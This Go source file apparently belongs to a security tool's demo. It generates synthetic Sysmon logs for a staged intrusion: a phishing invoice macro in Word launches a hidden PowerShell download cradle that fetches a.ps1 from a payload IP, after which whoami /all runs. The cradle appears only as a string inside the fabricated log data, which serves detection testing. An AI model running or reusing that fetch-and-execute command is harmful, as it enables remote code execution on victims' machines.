package demo

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ingest"
)

// kv is one member of a JSON object; obj keeps the members in order, as
// evtx_dump writes them.
type kv struct {
	k string
	v any // string, int, bool, nil or obj
}

type obj []kv

func (o obj) appendJSON(b []byte) []byte {
	b = append(b, '{')
	for i, m := range o {
		if i > 0 {
			b = append(b, ',')
		}
		b = event.AppendString(b, m.k)
		b = append(b, ':')
		switch v := m.v.(type) {
		case string:
			b = event.AppendString(b, v)
		case int:
			b = strconv.AppendInt(b, int64(v), 10)
		case bool:
			b = strconv.AppendBool(b, v)
		case obj:
			b = v.appendJSON(b)
		case nil:
			b = append(b, "null"...)
		default:
			panic(fmt.Sprintf("demo: no JSON form for %T", v)) // a bug in this file, not input
		}
	}
	return append(b, '}')
}

// Sysmon's constant parts.
const (
	sysmonChannel  = "Microsoft-Windows-Sysmon/Operational"
	sysmonProvider = "Microsoft-Windows-Sysmon"
	sysmonGUID     = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
	sysmonPID      = 3184
	winUser        = `CORP\m.keller`
	winLogonGUID   = "5F3C2B1A-7E10-6740-6B2D-0F0000000000"
	winLogonID     = "0xf2d6b"
)

// sysmon adds one Sysmon event in evtx_dump's JSON shape.
func (g *gen) sysmon(at time.Time, eventID, task int, data obj) {
	g.record++
	ev := obj{{"Event", obj{
		{"#attributes", obj{{"xmlns", "http://schemas.microsoft.com/win/2004/08/events/event"}}},
		{"System", obj{
			{"Provider", obj{{"#attributes", obj{{"Name", sysmonProvider}, {"Guid", sysmonGUID}}}}},
			{"EventID", eventID},
			{"Version", 5},
			{"Level", 4},
			{"Task", task},
			{"Opcode", 0},
			{"Keywords", "0x8000000000000000"},
			{"TimeCreated", obj{{"#attributes", obj{{"SystemTime", at.UTC().Format("2006-01-02T15:04:05.000000Z")}}}}},
			{"EventRecordID", g.record},
			{"Correlation", nil},
			{"Execution", obj{{"#attributes", obj{{"ProcessID", sysmonPID}, {"ThreadID", 4120 + g.rng.IntN(900)}}}}},
			{"Channel", sysmonChannel},
			{"Computer", winHost},
			{"Security", obj{{"#attributes", obj{{"UserID", "S-1-5-18"}}}}},
		}},
		{"EventData", data},
	}}}
	g.add(at, ingest.FormatJSON, ev.appendJSON(make([]byte, 0, 2048)))
}

// utcTime is Sysmon's UtcTime: the moment the process started, a little
// before the event was written.
func utcTime(at time.Time) string {
	return at.Add(-17 * time.Millisecond).UTC().Format("2006-01-02 15:04:05.000")
}

// process is a Windows process as Sysmon describes it.
type process struct {
	pid                                                  int
	image, cmdline, dir                                  string
	fileVersion, description, product, company, original string
	integrity                                            string
}

// guid is the ProcessGuid of p.
func (p *process) guid() string {
	return fmt.Sprintf("5F3C2B1A-7E10-6740-%04X-%012X", p.pid&0xffff, 0x0F0000000000+p.pid)
}

// hashes are made-up but well-formed Sysmon hashes of the image.
func hashes(image string) string {
	sum := func(kind string, n int) string {
		h := sha256.Sum256([]byte(kind + ":" + strings.ToLower(image)))
		return strings.ToUpper(hex.EncodeToString(h[:]))[:n]
	}
	return "MD5=" + sum("md5", 32) + ",SHA256=" + sum("sha256", 64) + ",IMPHASH=" + sum("imphash", 32)
}

// processCreate adds a Sysmon EventID 1 for p started by parent.
func (g *gen) processCreate(at time.Time, p, parent *process) {
	g.sysmon(at, 1, 1, obj{
		{"RuleName", "-"},
		{"UtcTime", utcTime(at)},
		{"ProcessGuid", p.guid()},
		{"ProcessId", p.pid},
		{"Image", p.image},
		{"FileVersion", p.fileVersion},
		{"Description", p.description},
		{"Product", p.product},
		{"Company", p.company},
		{"OriginalFileName", p.original},
		{"CommandLine", p.cmdline},
		{"CurrentDirectory", p.dir},
		{"User", winUser},
		{"LogonGuid", winLogonGUID},
		{"LogonId", winLogonID},
		{"TerminalSessionId", 1},
		{"IntegrityLevel", p.integrity},
		{"Hashes", hashes(p.image)},
		{"ParentProcessGuid", parent.guid()},
		{"ParentProcessId", parent.pid},
		{"ParentImage", parent.image},
		{"ParentCommandLine", parent.cmdline},
		{"ParentUser", winUser},
	})
}

// networkConnect adds a Sysmon EventID 3 for an outbound TCP connection.
func (g *gen) networkConnect(at time.Time, p *process, dstIP string, dstPort int, dstPortName string) {
	g.sysmon(at, 3, 3, obj{
		{"RuleName", "-"},
		{"UtcTime", utcTime(at)},
		{"ProcessGuid", p.guid()},
		{"ProcessId", p.pid},
		{"Image", p.image},
		{"User", winUser},
		{"Protocol", "tcp"},
		{"Initiated", "true"},
		{"SourceIsIpv6", "false"},
		{"SourceIp", winIP},
		{"SourceHostname", winHost},
		{"SourcePort", g.port()},
		{"SourcePortName", "-"},
		{"DestinationIsIpv6", "false"},
		{"DestinationIp", dstIP},
		{"DestinationHostname", "-"},
		{"DestinationPort", dstPort},
		{"DestinationPortName", dstPortName},
	})
}

const (
	officeDir  = `C:\Program Files\Microsoft Office\root\Office16\`
	officeVer  = "16.0.18129.20158"
	officeProd = "Microsoft Office"
	msCompany  = "Microsoft Corporation"
	winProduct = "Microsoft® Windows® Operating System"
	userDir    = `C:\Users\m.keller\`
)

// The cradle the phishing document runs, as the brief for the demo fixes it.
const cradle = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://` + payloadIP + `/a.ps1')"`

// windows adds the workstation's story: an ordinary morning (Outlook and
// Edge start at benign), then at attack the user opens an invoice attached
// to a phishing mail, and the document's macro starts a PowerShell download
// cradle, which fetches its stage and looks around.
func (g *gen) windows(benign, attack time.Time) {
	explorer := &process{pid: 5012, image: `C:\Windows\explorer.exe`, cmdline: `C:\WINDOWS\Explorer.EXE`}
	outlook := &process{
		pid: 7344, image: officeDir + "OUTLOOK.EXE", cmdline: `"` + officeDir + `OUTLOOK.EXE" `, dir: userDir,
		fileVersion: officeVer, description: "Microsoft Outlook", product: officeProd, company: msCompany,
		original: "Outlook.exe", integrity: "Medium",
	}
	g.processCreate(benign, outlook, explorer)
	edge := &process{
		pid: 8120, image: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
		cmdline: `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.corp.example/expenses`,
		dir:     `C:\Program Files (x86)\Microsoft\Edge\Application\131.0.2903.70\`, fileVersion: "131.0.2903.70",
		description: "Microsoft Edge", product: "Microsoft Edge", company: msCompany, original: "msedge.exe", integrity: "Medium",
	}
	g.processCreate(benign.Add(3*time.Minute+12*time.Second), edge, explorer)

	g.phase = stepPowerShell
	defer func() { g.phase = "" }()
	word := &process{
		pid: 9268, image: officeDir + "WINWORD.EXE",
		cmdline: `"` + officeDir + `WINWORD.EXE" /n "` + userDir + `AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QX2M4PB\Invoice_INV-20931.docm" /o ""`,
		dir:     userDir + `Documents\`, fileVersion: officeVer, description: "Microsoft Word", product: officeProd,
		company: msCompany, original: "WinWord.exe", integrity: "Medium",
	}
	g.processCreate(attack, word, outlook)
	ps := &process{
		pid: 9912, image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, cmdline: cradle,
		dir: userDir + `Documents\`, fileVersion: "10.0.19041.5198 (WinBuild.160101.0800)", description: "Windows PowerShell",
		product: winProduct, company: msCompany, original: "PowerShell.EXE", integrity: "Medium",
	}
	at := attack.Add(41 * time.Second)
	g.processCreate(at, ps, word)
	g.networkConnect(at.Add(1200*time.Millisecond), ps, payloadIP, 80, "http")
	whoami := &process{
		pid: 10236, image: `C:\Windows\System32\whoami.exe`, cmdline: `"C:\Windows\system32\whoami.exe" /all`,
		dir: userDir + `Documents\`, fileVersion: "10.0.19041.1 (WinBuild.160101.0800)", description: "whoami - displays logged on user information",
		product: winProduct, company: msCompany, original: "whoami.exe", integrity: "Medium",
	}
	g.processCreate(at.Add(4*time.Second), whoami, ps)
}
